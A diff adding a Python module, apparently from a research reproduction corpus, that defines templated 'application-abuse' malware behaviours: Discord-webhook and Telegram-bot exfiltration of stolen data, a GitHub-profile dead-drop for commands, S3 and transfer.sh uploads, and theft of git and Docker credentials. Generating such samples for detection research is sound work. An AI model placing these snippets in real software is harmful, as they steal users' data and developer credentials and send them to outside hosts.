@@ -1,0 +1,157 @@
+"""Application-abuse behaviours (paper Table XII category 8).
+
+Subcategories: Messaging Platform Abuse, Social Media API Exploitation,
+Cloud Service Misuse, Development Tool Abuse.
+"""
+
+from __future__ import annotations
+
+from repro.corpus.behaviors.base import Behavior
+
+BEHAVIORS: list[Behavior] = [
+    # -- Messaging Platform Abuse -------------------------------------------------------
+    Behavior(
+        key="discord_webhook_exfil",
+        subcategory="Messaging Platform Abuse",
+        description="Exfiltrate stolen data through a Discord webhook.",
+        variants=[
+            (
+                ["import requests", "import platform"],
+                """
+                def {func}_notify({var}):
+                    hook = "{webhook}"
+                    content = "new victim: " + platform.node() + "\\n" + str({var})[:1800]
+                    requests.post(hook, json=dict(content=content), timeout=10)
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import json", "import urllib.request"],
+                """
+                def {func}_hook({var}):
+                    body = json.dumps(dict(username="grabber", content=str({var}))).encode()
+                    req = urllib.request.Request("{webhook}", data=body,
+                                                 headers=dict(Content_Type="application/json"))
+                    urllib.request.urlopen(req, timeout=10)
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    Behavior(
+        key="telegram_bot_exfil",
+        subcategory="Messaging Platform Abuse",
+        description="Send stolen data to a Telegram bot chat.",
+        variants=[
+            (
+                ["import requests"],
+                """
+                def {func}_tg({var}):
+                    token = "{telegram_token}"
+                    api = "https://api.telegram.org/bot" + token + "/sendMessage"
+                    requests.post(api, data=dict(chat_id="-100199", text=str({var})), timeout=10)
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import urllib.parse", "import urllib.request"],
+                """
+                def {func}_tg_doc(path):
+                    token = "{telegram_token}"
+                    url = ("https://api.telegram.org/bot" + token + "/sendDocument?chat_id=-100199&caption="
+                           + urllib.parse.quote(path))
+                    urllib.request.urlopen(url, timeout=10)
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- Social Media API Exploitation -----------------------------------------------------
+    Behavior(
+        key="social_api_abuse",
+        subcategory="Social Media API Exploitation",
+        description="Use a social-media API as a covert channel / amplification.",
+        variants=[
+            (
+                ["import requests"],
+                """
+                def {func}_dead_drop():
+                    profile = requests.get("https://api.github.com/users/{var}-sync", timeout=10).json()
+                    command = profile.get("bio", "")
+                    return command
+                """,
+                "{func}_dead_drop()",
+                None,
+            ),
+        ],
+    ),
+    # -- Cloud Service Misuse ------------------------------------------------------------------
+    Behavior(
+        key="cloud_bucket_exfil",
+        subcategory="Cloud Service Misuse",
+        description="Upload stolen data to attacker cloud storage / paste services.",
+        variants=[
+            (
+                ["import boto3"],
+                """
+                def {func}_s3({var}):
+                    client = boto3.client("s3", aws_access_key_id="AKIA3X7EXAMPLE9Q",
+                                          aws_secret_access_key="V7rTq1ExampleSecret")
+                    client.put_object(Bucket="drop-{var}", Key="dump.txt", Body=str({var}))
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import requests"],
+                """
+                def {func}_transfer(path):
+                    with open(path, "rb") as handle:
+                        response = requests.put("https://transfer.sh/" + path.split("/")[-1],
+                                                data=handle, timeout=30)
+                    return response.text
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- Development Tool Abuse --------------------------------------------------------------------
+    Behavior(
+        key="devtool_token_abuse",
+        subcategory="Development Tool Abuse",
+        description="Steal developer-tool credentials (git, npm, docker) and CI secrets.",
+        variants=[
+            (
+                ["import subprocess"],
+                """
+                def {func}_gitcreds():
+                    output = subprocess.run("git config --global --list", shell=True,
+                                            capture_output=True, text=True).stdout
+                    helper = subprocess.run("git credential fill", shell=True, input="url=https://github.com\\n",
+                                            capture_output=True, text=True).stdout
+                    return output + helper
+                """,
+                "{func}_gitcreds()",
+                None,
+            ),
+            (
+                ["import os", "import json"],
+                """
+                def {func}_dockerauth():
+                    config = os.path.expanduser("~/.docker/config.json")
+                    if not os.path.isfile(config):
+                        return dict()
+                    with open(config, "r") as handle:
+                        return json.load(handle).get("auths", dict())
+                """,
+                "{func}_dockerauth()",
+                None,
+            ),
+        ],
+    ),
+]
